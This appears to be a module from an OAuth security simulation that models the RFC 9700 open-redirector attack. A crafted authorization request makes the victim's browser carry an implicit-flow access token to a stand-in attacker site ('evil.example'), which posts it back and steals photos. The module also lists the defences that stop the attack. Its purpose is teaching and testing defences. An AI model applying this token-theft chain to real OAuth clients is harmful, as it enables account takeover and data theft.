"""An open redirector at the client: over it the browser carries an access token away (RFC 9700 §4.1.2 and §4.11.1).

The fragment of an address is not sent, but it is not lost either: a redirect without a fragment of its own inherits it.
"""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response, request

from app.actors.owner import Owner
from app.actors.pages import posting_page
from app.actors.places import ASKED_SCOPE, AUTHORIZATION_ENDPOINT, CLIENT_ORIGIN
from app.actors.redirects import with_query
from app.attacks import lure, parts
from app.attacks.attack import Attack, Defence
from app.attacks.csrf import EVIL
from app.attacks.parts import ATTACKER, STEAL
from app.flows.flow import Hosts
from app.flows.parts import log_in_and_consent
from app.wire import Browser, Step, World, here

CATCH = "/in"
REDIRECTOR = with_query(f"{CLIENT_ORIGIN}/cb", {"next": f"{EVIL}{CATCH}"})


def leads_to(_: World) -> str:
    """A request in the client's name, for an answer at its own address, which leads on."""
    asked = {"response_type": "token", "client_id": "printer-page", "redirect_uri": REDIRECTOR, "scope": ASKED_SCOPE}
    return with_query(AUTHORIZATION_ENDPOINT, asked)


def catch() -> Response:
    """A page whose script reads what the browser brought along, and then what it posted."""
    if request.method == "GET":
        return posting_page("Cats", CATCH, {}, fragment=True)
    parts.fetch_photos(here().actor(ATTACKER), request.form.get("access_token", ""))
    return lure.cats()


@cache
def build() -> Flask:
    """The attacker's site."""
    return lure.site("evil-page", leads_to, {CATCH: catch})


def hosts(_: Mapping[str, str]) -> Hosts:
    """The attacker's site."""
    return {EVIL: (ATTACKER, build())}


def script(world: World) -> None:
    """Ana follows a link, and then does what the pages of the authorization server ask."""
    owner, browser = Owner(world), Browser(world)
    lure.follow_link(owner, browser)
    log_in_and_consent(owner, browser)


ATTACK = Attack(
    id="open-redirector",
    title="Open redirector",
    spec=("RFC 9700 §4.1.2", "RFC 9700 §4.11.1"),
    flows=("implicit",),
    aim="Ana's browser carries her access token to the attacker's page.",
    goal=parts.photos_stolen,
    needs={"client.type": "public", "client.auth": "none"},
    weak={"as.redirect_uri_match": "prefix", "client.onward": "anywhere", "as.implicit": "allowed"},
    stops=(
        Defence(
            switch="as.redirect_uri_match",
            value="exact",
            who="as",
            sentence="The address with the parameter is not the one that was registered.",
            check="authorize.redirect_uri.exact",
            at="authorize#1.request",
            status=400,
        ),
        Defence(
            switch="client.onward",
            value="anywhere_cut",
            who="browser",
            sentence="The redirect has a fragment of its own, and the browser drops the one with the token.",
        ),
        Defence(
            switch="client.onward",
            value="own_pages",
            who="client",
            sentence="The printer sends browsers to pages of its own, and to no others.",
            check="callback.next",
            at="callback#1.request",
            status=400,
        ),
        parts.implicit_refused("No access token is put into an address, so none can be carried away."),
    ),
    promised={"rfc9700": "RFC 9700 §4.11.1", "oauth-2.1": "OAuth 2.1 §7.13.1"},
    lanes=(parts.thief("evil.example", "attacker's site"),),
    steps=(
        *lure.STEPS,
        Step("caught", "browser", ATTACKER, "GET", CATCH, STEAL, "Go on to the attacker's page"),
        Step("handed_in", "browser", ATTACKER, "POST", CATCH, STEAL, "Post the token to the attacker"),
        parts.REDEEMING[1],
    ),
    phases=(lure.LURING, parts.STEALING),
    hosts=hosts,
    script=script,
    victim="Ana follows a link, logs in at Accounts, allows a client that she knows, and ends at cats.",
    attacker="He needs a registered address that leads on: no host of his own has to be let through.",
    remains="A code in a query is not carried along, but it may stand in a Referer that the next page gets.",
)
